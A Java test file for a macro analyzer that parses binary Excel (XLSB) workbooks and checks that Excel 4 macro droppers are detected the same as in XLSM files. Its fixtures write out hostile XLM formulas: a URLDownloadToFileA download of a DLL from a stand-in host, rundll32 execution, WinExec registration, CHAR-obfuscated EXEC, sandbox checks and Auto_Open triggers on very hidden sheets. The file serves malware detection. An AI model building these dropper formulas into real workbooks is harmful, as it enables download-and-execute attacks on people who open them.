package org.peekaboo.office;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.peekaboo.office.testing.XlsbFiles.cell;
import static org.peekaboo.office.testing.XlsbFiles.concat;
import static org.peekaboo.office.testing.XlsbFiles.le16;
import static org.peekaboo.office.testing.XlsbFiles.le32;
import static org.peekaboo.office.testing.XlsbFiles.parsedFormula;
import static org.peekaboo.office.testing.XlsbFiles.record;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.peekaboo.office.testing.OfficeFiles;
import org.peekaboo.office.testing.XlsbFiles;
import org.peekaboo.ruleset.MacroBehaviour;

class XlsbFormulasTest {
    private static final String URLMON = "CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,"
            + "\"http://example.invalid/p.bin\",\"C:\\Users\\Public\\p.dll\",0,0)";

    private final MacroAnalyzer analyzer = MacroAnalyzer.withDefaultLimits();

    @TempDir
    Path dir;

    @Test
    void recordsWithMultiByteTypesAndSizesAreWalked() throws OfficeDocumentException {
        byte[] big = new byte[300];
        big[299] = 7;
        // A size written in more bytes than needed is still one record: 5 as 0x85 0x80 0x00.
        byte[] padded = {0x27, (byte) 0x85, (byte) 0x80, 0x00, 1, 2, 3, 4, 5};
        Biff12Records records = new Biff12Records(concat(record(427, big), padded, record(0, new byte[0])), "t");

        assertThat(records.next()).isTrue();
        assertThat(records.type()).isEqualTo(427);
        Biff12Data data = records.data();
        assertThat(data.remaining()).isEqualTo(300);
        data.skip(299);
        assertThat(data.u8()).isEqualTo(7);
        assertThat(records.next()).isTrue();
        assertThat(records.type()).isEqualTo(39);
        assertThat(records.data().remaining()).isEqualTo(5);
        assertThat(records.next()).isTrue();
        assertThat(records.type()).isZero();
        assertThat(records.next()).isFalse();
    }

    @Test
    void truncatedOrOversizedRecordsAreCorrupt() {
        byte[] whole = record(427, new byte[300]);

        assertThatThrownBy(() -> walk(Arrays.copyOf(whole, whole.length - 1)))
                .isInstanceOf(OfficeDocumentException.class).hasMessageContaining("runs past the end of the part");
        assertThatThrownBy(() -> walk(new byte[] {(byte) 0xAB}))
                .isInstanceOf(OfficeDocumentException.class).hasMessageContaining("ends inside a record type");
        assertThatThrownBy(() -> walk(new byte[] {(byte) 0x80, (byte) 0x80, 0}))
                .isInstanceOf(OfficeDocumentException.class).hasMessageContaining("record type is longer than 2 bytes");
        assertThatThrownBy(() -> walk(new byte[] {8, (byte) 0xFF, (byte) 0xFF, (byte) 0xFF, (byte) 0xFF, 1}))
                .isInstanceOf(OfficeDocumentException.class).hasMessageContaining("record size is longer than 4 bytes");
        // A formula whose cce claims more than its record holds.
        byte[] lying = record(9, concat(cell(0), new byte[8], le16(0), le32(1000), new byte[] {0x1E, 1, 0}));
        assertThatThrownBy(() -> XlsbParts.formulas(lying, "m", FormulaTokens.biff12(List.of())))
                .isInstanceOf(OfficeDocumentException.class).hasMessageContaining("a formula of 1000 runs past");
    }

    @Test
    void formulasDecodeToTheTextTheyWereWrittenFrom() {
        for (String formula : List.of(URLMON, "EXEC(\"cmd /c start http://example.invalid/x\")", "HALT()",
                "REGISTER(\"Kernel32\",\"WinExec\",\"JCJ\",\"Run1\",,1,9)",
                "FORMULA(CHAR(61)&CHAR(69)&\"calc\"&CHAR(41),A5)", "IF(GET.WORKSPACE(19),,CLOSE(FALSE))",
                "SUM($B$2:B40)*2-1", "SET.VALUE(C1,A1/2.5)", "GOTO(Macro1!$A$1)", "A1<>\"\"",
                "FWRITELN(FOPEN(\"x.bat\",3),\"calc\")", "-(1+2)")) {
            List<String> names = new ArrayList<>();
            byte[] rgce = XlsbFiles.compile(formula, names);

            String rendered = FormulaTokens.biff12(names).render(rgce, 0, rgce.length);

            assertThat(rendered).as(formula).isEqualTo(formula.replace("Macro1!", "Sheet!"));
        }
    }

    @Test
    void legacyFormulasWithExcel4FunctionsPoiDoesNotKnowAreReadToo() {
        // As Excel writes them in an .xls: REGISTER (149) and HALT (54) by id, which POI's table lacks.
        byte[] register = {0x17, 8, 0, 'K', 'e', 'r', 'n', 'e', 'l', '3', '2', 0x17, 7, 1, 'W', 0, 'i', 0, 'n', 0,
            'E', 0, 'x', 0, 'e', 0, 'c', 0, 0x42, 2, (byte) 149, 0};
        byte[] halt = {0x42, 0, 54, 0};
        byte[] reference = {0x24, 4, 0, 0, (byte) 0xC0, 0x42, 1, 53, 0};
        BiffFormulas formulas = new BiffFormulas(List.of());

        assertThat(formulas.render(register, 0, register.length)).isEqualTo("REGISTER(\"Kernel32\",\"WinExec\")");
        assertThat(formulas.render(halt, 0, halt.length)).isEqualTo("HALT()");
        assertThat(formulas.render(reference, 0, reference.length)).isEqualTo("GOTO(A5)");
        assertThat(XlmIndicators.ALL.stream().filter(i -> i.test().test(List.of("REGISTER(\"Kernel32\",\"WinExec\")"))))
                .extracting(XlmIndicator::name).containsExactly("WinExec/ShellExecute (Excel 4)");
    }

    @Test
    void aHostileExpressionRendersToBoundedText() {
        byte[] part = XlsbFiles.compile("\"0123456789\"&\"0123456789\"", new ArrayList<>());
        byte[] string = Arrays.copyOf(part, part.length / 2);
        java.io.ByteArrayOutputStream rgce = new java.io.ByteArrayOutputStream();
        rgce.writeBytes(string);
        for (int i = 0; i < 20_000; i++) {
            rgce.writeBytes(string);
            rgce.write(0x08);   // PtgConcat
        }
        byte[] hostile = rgce.toByteArray();

        String rendered = FormulaTokens.biff12(List.of()).render(hostile, 0, hostile.length);

        assertThat(rendered).startsWith("\"0123456789\" \"0123456789\"").endsWith(" #UNREADABLE");
        assertThat(rendered.length()).isLessThanOrEqualTo(FormulaTokens.MAX_TEXT + " #UNREADABLE".length());
    }

    @Test
    void aCallOfANameShowsTheName() {
        List<String> names = new ArrayList<>(List.of("Auto_Open"));
        byte[] rgce = XlsbFiles.compile("Run1(\"cmd /c calc\",0)", names);

        assertThat(names).containsExactly("Auto_Open", "Run1");
        assertThat(FormulaTokens.biff12(names).render(rgce, 0, rgce.length)).isEqualTo("Run1(\"cmd /c calc\",0)");
    }

    @Test
    void anUndecodableExpressionKeepsWhatItNamedAndSaysSo() {
        byte[] exec = XlsbFiles.compile("EXEC(\"calc\")", new ArrayList<>());
        byte[] broken = concat(exec, new byte[] {(byte) 0xFF});
        byte[] cut = Arrays.copyOf(exec, exec.length - 2);

        assertThat(FormulaTokens.biff12(List.of()).render(broken, 0, broken.length))
                .isEqualTo("\"calc\" EXEC() #UNREADABLE");
        assertThat(FormulaTokens.biff12(List.of()).render(cut, 0, cut.length)).isEqualTo("\"calc\" #UNREADABLE");
        assertThat(XlmIndicators.ALL.stream().filter(i -> i.test().test(List.of("\"calc\" EXEC() #UNREADABLE"))))
                .extracting(XlmIndicator::name).containsExactly("EXEC (Excel 4)");
    }

    @Test
    void anXlsbDropperIsJudgedExactlyLikeItsXlsmTwin() throws Exception {
        List<String[]> sheets = List.of(
                new String[] {"EXEC(\"cmd /c start http://example.invalid/x\")", "HALT()"},
                new String[] {URLMON, "EXEC(\"rundll32 C:\\Users\\Public\\p.dll,DllRegisterServer\")", "HALT()"},
                new String[] {"REGISTER(\"Kernel32\",\"WinExec\",\"JCJ\",\"Run1\",,1,9)",
                    "Run1(\"cmd /c start http://example.invalid/r\",0)", "HALT()"},
                new String[] {"FORMULA(CHAR(61)&CHAR(69)&CHAR(88)&CHAR(69)&CHAR(67)&CHAR(40)&CHAR(34)"
                        + "&\"calc\"&CHAR(34)&CHAR(41),A5)", "GOTO(A5)"},
                new String[] {"IF(GET.WORKSPACE(13)<770,CLOSE(FALSE),)", "FWRITELN(FOPEN(\"p.bat\",3),\"calc\")"});
        for (String[] formulas : sheets) {
            OleReport xlsb = analyze(XlsbFiles.xlsbWithXlmFormulas(formulas), "x.xlsb");
            OleReport xlsm = analyze(OfficeFiles.xlsmWithXlmFormulas(formulas), "x.xlsm");

            assertThat(xlsb.xlmCode()).isEqualTo(String.join("\n", formulas));
            assertThat(xlsb).isEqualTo(xlsm);
            assertThat(xlsb.attribute("xlm_code")).isEqualTo(xlsb.xlmCode());
            assertThat(xlsb.attribute("has_xlm_macros")).isEqualTo(true);
            assertThat(xlsb.detectedAutoexec()).containsExactly(
                    "Auto_Open: An Excel 4 macro runs when the workbook is opened (defined name)");
        }
        assertThat(analyze(XlsbFiles.xlsbWithXlmFormulas(URLMON), "u.xlsb").indicators(MacroBehaviour.DOWNLOAD))
                .containsExactly("URLDownloadToFile (Excel 4)");
    }

    @Test
    void everySpellingOfTheTriggerCounts() throws IOException {
        for (String trigger : List.of("Auto_Open", "_xlnm.Auto_Open", "AUTO_OPEN", "auto_open_x7", "Auto_Open77")) {
            assertThat(analyze(XlsbFiles.xlsb(trigger, XlsbFiles.VISIBLE, List.of("EXEC(\"calc\")")), "t.xlsb")
                    .autoexecTriggers()).as(trigger).containsExactly("Auto_Open");
        }
        assertThat(analyze(XlsbFiles.xlsb("Auto_Close", XlsbFiles.VISIBLE, List.of("EXEC(\"calc\")")), "t.xlsb")
                .autoexecTriggers()).containsExactly("Auto_Close");
        assertThat(analyze(XlsbFiles.xlsb("Report", XlsbFiles.VISIBLE, List.of("EXEC(\"calc\")")), "t.xlsb")
                .autoexecTriggers()).isEmpty();
    }

    @Test
    void partsAreFoundByTheirRelationshipsAndContentWhateverTheirNames() throws IOException {
        Map<String, byte[]> parts = parts(XlsbFiles.xlsbWithXlmFormulas(URLMON, "HALT()"));
        Map<String, byte[]> renamed = new LinkedHashMap<>();
        parts.forEach((name, content) -> renamed.put(name.replace("xl/workbook.bin", "xl/book.bin")
                        .replace("xl/_rels/workbook.bin.rels", "xl/_rels/book.bin.rels")
                        .replace("xl/macrosheets/sheet1.bin", "xl/data/table.xml"),
                name.endsWith(".xml") || name.endsWith(".rels") ? new String(content, StandardCharsets.UTF_8)
                        .replace("xl/workbook.bin", "xl/book.bin").replace("macrosheets/sheet1.bin", "data/table.xml")
                        .getBytes(StandardCharsets.UTF_8) : content));

        OleReport report = analyze(OfficeFiles.zip(renamed), "renamed.xlsb");

        assertThat(renamed).containsKeys("xl/book.bin", "xl/data/table.xml").doesNotContainKey("xl/workbook.bin");
        assertThat(report.autoexecTriggers()).containsExactly("Auto_Open");
        assertThat(report.xlmCode()).isEqualTo(URLMON + "\nHALT()");
    }

    @Test
    void theWorkbookTellsSheetsTheirVisibilityAndNames() throws IOException {
        byte[] workbook = part(XlsbFiles.xlsb("Auto_Open", XlsbFiles.VERY_HIDDEN, List.of("Run1(1)")), "xl/workbook.bin");

        XlsbParts.Workbook read = XlsbParts.workbook(workbook, "xl/workbook.bin");

        assertThat(read.sheets()).containsExactly(
                new XlsbParts.Sheet("Prices", "rId1", XlsbParts.Visibility.VISIBLE),
                new XlsbParts.Sheet("Macro1", "rId2", XlsbParts.Visibility.VERY_HIDDEN));
        assertThat(read.names()).extracting(XlsbParts.Name::name).containsExactly("Auto_Open", "Run1");
        assertThat(read.names().getFirst().refersTo()).isEqualTo("Sheet!$A$1");
    }

    @Test
    void hiddenMacroSheetsAreReadToo() throws IOException {
        OleReport report = analyze(XlsbFiles.xlsb("Auto_Open", XlsbFiles.VERY_HIDDEN, List.of(URLMON)), "h.xlsb");

        assertThat(report.indicators(MacroBehaviour.DOWNLOAD)).containsExactly("URLDownloadToFile (Excel 4)");
    }

    @Test
    void sharedFormulasAreReadOnceAndTheirReferencesSkipped() throws OfficeDocumentException {
        byte[] exec = XlsbFiles.compile("EXEC(\"calc\")", new ArrayList<>());
        byte[] ptgExp = {0x01, 0, 0, 0, 0};
        byte[] sheet = XlsbFiles.sheet(List.of(XlsbFiles.row(0,
                record(9, concat(cell(0), new byte[8], le16(0), parsedFormula(ptgExp))),
                record(427, concat(le32(0), le32(3), le32(0), le32(0), parsedFormula(exec))),
                record(9, concat(cell(0), new byte[8], le16(0), parsedFormula(ptgExp))))));

        assertThat(XlsbParts.formulas(sheet, "m", FormulaTokens.biff12(List.of()))).containsExactly("EXEC(\"calc\")");
    }

    @Test
    void benignBinaryWorkbooksStayClean() throws IOException {
        OleReport computing = analyze(XlsbFiles.xlsb("Auto_Open", XlsbFiles.VISIBLE,
                List.of("SUM(B1:B9)", "SET.VALUE(C1,A1*2)", "FORMULA(\"Total\",B10)", "RETURN()")), "c.xlsb");

        assertThat(analyze(XlsbFiles.dataOnly(), "d.xlsb")).isEqualTo(OleReport.NO_MACROS);
        assertThat(computing.hasXlmMacros()).isTrue();
        assertThat(computing.detectedSuspicious()).isEmpty();
        assertThat(computing.detectedBehaviour().values()).allMatch(List::isEmpty);
    }

    @Test
    void aCorruptMacroSheetOrWorkbookCannotBeJudged() throws IOException {
        byte[] xlsb = XlsbFiles.xlsbWithXlmFormulas("EXEC(\"calc\")", "HALT()");
        for (String part : List.of("xl/macrosheets/sheet1.bin", "xl/workbook.bin")) {
            byte[] content = part(xlsb, part);
            byte[] cut = replace(xlsb, part, Arrays.copyOf(content, content.length - 10));

            assertThatThrownBy(() -> analyze(cut, "cut.xlsb")).as(part).isInstanceOf(OfficeDocumentException.class)
                    .hasMessageContaining(part).hasMessageContaining("corrupt BIFF12");
        }
    }

    private static void walk(byte[] part) throws OfficeDocumentException {
        Biff12Records records = new Biff12Records(part, "t");
        while (records.next()) {
            records.data();
        }
    }

    private OleReport analyze(byte[] content, String name) throws IOException {
        Path file = dir.resolve(name);
        Files.write(file, content);
        return analyzer.analyze(file);
    }

    private static Map<String, byte[]> parts(byte[] zip) throws IOException {
        Map<String, byte[]> parts = new LinkedHashMap<>();
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(zip))) {
            for (ZipEntry entry = in.getNextEntry(); entry != null; entry = in.getNextEntry()) {
                parts.put(entry.getName(), in.readAllBytes());
            }
        }
        return parts;
    }

    private static byte[] part(byte[] zip, String name) throws IOException {
        return parts(zip).get(name);
    }

    private static byte[] replace(byte[] zip, String name, byte[] content) throws IOException {
        Map<String, byte[]> parts = parts(zip);
        parts.put(name, content);
        return OfficeFiles.zip(parts);
    }
}
